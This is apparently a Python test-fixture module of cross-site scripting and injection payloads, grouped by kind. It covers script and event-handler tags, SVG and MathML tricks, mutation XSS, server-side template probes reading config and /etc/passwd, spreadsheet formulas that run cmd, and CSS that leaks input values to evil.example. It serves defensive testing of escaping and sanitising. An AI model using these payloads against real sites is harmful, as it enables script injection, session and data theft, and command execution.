"""What would run, load or deceive where text becomes HTML, an attribute, an address, a style, a script or a sheet.

By kind; the kinds are those of OWASP's cheat sheets "XSS Filter Evasion" and "DOM Clobbering Prevention". A browser is
watched for `alert` and `evil.example`, and `xss` stands in each address that a payload would ask for.
"""

from __future__ import annotations

from collections.abc import Iterator, Mapping

#: Kinds whose payloads make an element, or an attribute of one, wherever they stand as they are.
BECOME_ELEMENTS = ("attributes", "scripts", "handlers", "foreign content", "mutations", "islands", "htmx")

KINDS: Mapping[str, tuple[str, ...]] = {
    "attributes": (
        '"><script>alert(1)</script>',
        "'><script>alert(1)</script>",
        '" onmouseover="alert(1)',
        "' onmouseover='alert(1)",
        '" autofocus onfocus="alert(1)" x="',
        "' autofocus onfocus='alert(1)' x='",
        '" style="animation-name:spin" onanimationstart="alert(1)',
        'x" type="image" src="x" onerror="alert(1)',
        '" formaction="javascript:alert(1)" type="submit',
        '" accesskey="x" onclick="alert(1)" x="',
        '"/><svg/onload=alert(1)>',
        "\"'--></option></select></textarea><img src=x onerror=alert(1)>",
    ),
    "scripts": (
        "<script>alert(1)</script>",
        "<ScRiPt>alert(1)</sCrIpT>",
        "<script/src=https://evil.example/xss.js></script>",
        "<script src=data:text/javascript,alert(1)></script>",
        "<script type=module>alert(1)</script>",
        '<script type=importmap>{"imports": {"x": "https://evil.example/xss.js"}}</script>',
        "<script>/*<script>*/alert(1)</script>",
        "<script src=//evil.example/xss.js async></script>",
        "<script nonce=x>import('https://evil.example/xss.js')</script>",
        "<iframe srcdoc='<script>parent.alert(1)</script>'>",
    ),
    "handlers": (
        "<img src=x onerror=alert(1)>",
        "<img/src=x/onerror=alert(1)//",
        "<body onload=alert(1)>",
        "<video><source onerror=alert(1)></video>",
        "<audio src=x onerror=alert(1)>",
        "<details open ontoggle=alert(1)>",
        "<input autofocus onfocus=alert(1)>",
        "<select autofocus onfocus=alert(1)>",
        "<textarea autofocus onfocus=alert(1)>",
        "<marquee onstart=alert(1)>",
        "<object data=x onerror=alert(1)>",
        "<style onload=alert(1)></style>",
        "<button popovertarget=p>x</button><div popover id=p onbeforetoggle=alert(1)>y</div>",
        "<p tabindex=1 autofocus onfocusin=alert(1)>",
    ),
    "foreign content": (
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><script href=data:,alert(1)></script></svg>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<svg><set onbegin=alert(1) attributeName=x>",
        "<svg><a xlink:href=javascript:alert(1)><text y=9>x</text></a></svg>",
        "<svg><use href=https://evil.example/xss.svg#x></use></svg>",
        "<svg><image href=https://evil.example/xss.png></image></svg>",
        "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></iframe></foreignObject></svg>",
        "<math><mtext></mtext><script>alert(1)</script></math>",
        "<math href=javascript:alert(1)>x</math>",
        "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    ),
    "templates": (
        "{{7*7}}{% raw %}",
        "{{ config.items() }}",
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "{{ url_for.__globals__ }}",
        "{% include '/etc/passwd' %}",
        "{{constructor.constructor('alert(1)')()}}",
        "${alert(1)}",
        "#{7*7}",
        "<%= 7*7 %>",
        "[[${7*7}]]",
    ),
    "addresses": (
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)//https://a.example",
        "javascript&colon;alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "data:text/html;charset=utf-8,%3Cscript%3Ealert(1)%3C/script%3E",
        "vbscript:msgbox(1)",
        "//evil.example/xss",
        "\\\\evil.example\\xss",
        "<a href=javascript:alert(1)>x</a>",
        '<a href="&#106;avascript:alert(1)">x</a>',
        "<base href=https://evil.example/xss/>",
        '<meta http-equiv=refresh content="0;url=https://evil.example/xss">',
        "<form action=https://evil.example/xss><button>x",
        "<img src=https://evil.example/xss.png>",
        "<link rel=prefetch href=https://evil.example/xss>",
        "<embed src=javascript:alert(1)>",
    ),
    "clobbering": (
        "<form id=try><input name=elements></form>",
        "<img name=body>",
        "<a id=plots href=https://evil.example/xss>x</a>",
        "<form name=getElementById>",
        "<iframe name=localStorage srcdoc=x></iframe>",
        "<object id=form></object>",
        "__proto__",
        '{"__proto__": {"hidden": true}}',
        "constructor",
    ),
    "mutations": (
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
        '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
        "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
        '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
        "<template><script>alert(1)</script></template>",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
        "<select><noembed></select><script>alert(1)</script>",
    ),
    "encodings": (
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&#60;img src=x onerror=alert(1)&#62;",
        "%3Cscript%3Ealert(1)%3C/script%3E",
        "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
        "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
        "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
        "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
        "\u00bcscript\u00bealert(1)\u00bc/script\u00be",
        "\u2028<script>alert(1)</script>",
        "\u202e<script>alert(1)</script>",
        "\ufeff<script>alert(1)</script>",
        "<\u0130mg src=x onerror=alert(1)>",
    ),
    "islands": (
        "</script><script>alert(1)</script>",
        "</title><script>alert(1)</script>",
        "</pre></article><script>alert(1)</script>",
        "]]><script>alert(1)</script>",
        "--><script>alert(1)</script>",
        "<!--<script>alert(1)//--><script>alert(1)</script>",
        '{"x": "</script><script>alert(1)</script>"}',
        '"-alert(1)-"<img src=x onerror=alert(1)>',
    ),
    "sheets": (
        "=cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        '=HYPERLINK("https://evil.example/xss","x")',
        "+1+cmd|' /C calc'!A0",
    ),
    "htmx": (
        "<div hx-get=/ui/xss hx-trigger=load>x</div>",
        "<div data-hx-get=/ui/xss data-hx-trigger=load>x</div>",
        "<div hx-on::load='alert(1)' hx-on:click=alert(1)>x</div>",
        "<form hx-post=/ui/xss hx-trigger='every 1s'></form>",
        "<div hx-vals='js:{x: alert(1)}' hx-get=/ui/xss hx-trigger=revealed>x</div>",
        "<div hx-swap-oob=true id=list>x</div>",
        "<div hx-boost=true><a href=/ui/xss>x</a></div>",
        '" hx-get="/ui/xss" hx-trigger="load" x="',
    ),
    "styles": (
        "<style>*{display:none}</style>",
        "<style>@import 'https://evil.example/xss.css';</style>",
        "<div style=background:url(https://evil.example/xss)>x</div>",
        "<p style=position:fixed;inset:0;z-index:99>x</p>",
        "<link rel=stylesheet href=data:text/css,*{display:none}>",
        "<style>input[value^=a]{background:url(https://evil.example/xss)}</style>",
        "';}*{background:url(https://evil.example/xss)}",
    ),
}

PAYLOADS = tuple(payload for kind in KINDS.values() for payload in kind)


def printable(payload: str) -> str:
    """The payload as a name can have it: signs that nobody sees are spelt."""
    return "".join(sign if sign.isprintable() else f"u{ord(sign):04x}" for sign in payload)


def packs(most: int) -> Iterator[str]:
    """All payloads, as many in a text as fit into so many characters."""
    pack = ""
    for payload in map(printable, PAYLOADS):
        if pack and len(pack) + len(payload) >= most:
            yield pack
            pack = ""
        pack = f"{pack} {payload}" if pack else payload
    yield pack
